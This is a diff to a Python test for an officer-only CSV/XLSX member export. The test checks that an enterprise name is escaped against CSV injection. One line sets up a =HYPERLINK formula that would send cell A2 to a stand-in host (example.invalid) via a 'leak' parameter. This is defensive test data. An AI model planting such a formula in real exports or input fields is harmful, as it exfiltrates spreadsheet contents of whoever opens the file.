@@ -127,17 +127,22 @@ async def test_critical_risk_alert_opens_a_review_without_suspending(api, to_sta
 
 
 async def test_exports_give_every_member_as_csv_and_xlsx_to_officers_only(api, to_state) -> None:
+    import csv
     import io
 
     from openpyxl import load_workbook
 
-    member = await to_state("recommended")
+    # An enterprise's name is text from outside: a spreadsheet must show it, never run it (CSV injection).
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A2,"凌源市示范制造有限公司")'
+    member = await to_state("recommended", name=formula)
     csv_response = await api.get("/v1/exports/list.csv", headers=LG)
     assert csv_response.status_code == 200 and csv_response.headers["content-type"].startswith("text/csv")
     lines = csv_response.content.decode("utf-8-sig").splitlines()
     assert lines[0].startswith("uscc,name,status") and member["uscc"] in lines[1]
+    assert next(csv.reader(lines[1:2]))[1] == "'" + formula
     xlsx = await api.get("/v1/exports/list.xlsx", headers=CREDIT)
     sheet = load_workbook(io.BytesIO(xlsx.content)).active
     assert sheet.cell(2, 1).value == member["uscc"] and sheet.cell(2, 3).value == "listed"
+    assert sheet.cell(2, 2).value == "'" + formula and sheet.cell(2, 2).data_type == "s"
     assert (await api.get("/v1/exports/list.csv")).status_code == 401
     assert (await api.get("/v1/exports/list.csv", headers={"Authorization": "Bearer nope"})).status_code == 401
